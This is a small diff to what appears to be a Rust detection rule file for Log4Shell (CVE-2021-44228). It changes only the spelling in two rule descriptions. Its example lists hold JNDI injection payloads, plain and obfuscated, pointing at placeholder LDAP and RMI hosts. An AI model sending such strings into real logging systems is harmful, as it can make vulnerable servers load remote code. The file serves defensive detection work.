@@ -6,7 +6,7 @@ pub(super) static JNDI: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.jndi",
     100,
-    "is a JNDI look-up in a log message (Log4Shell, CVE-2021-44228)",
+    "is a JNDI lookup in a log message (Log4Shell, CVE-2021-44228)",
     &[
         "${jndi:ldap://192.0.2.1/a}",
         "${${lower:J}ndi:${lower:rmi}://example.com/a}",
@@ -20,7 +20,7 @@ pub(super) static SPELLED: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.spelled-lookup",
     60,
-    "obfuscates a Log4j look-up letter by letter",
+    "obfuscates a Log4j lookup letter by letter",
     &["${${::-j}${::-n}di:ldap://example.com/a}", "${${::-s}ys:user.name}"],
     &["${x::-1}", "${name:-y}", "${list[::-1]}"],
 );
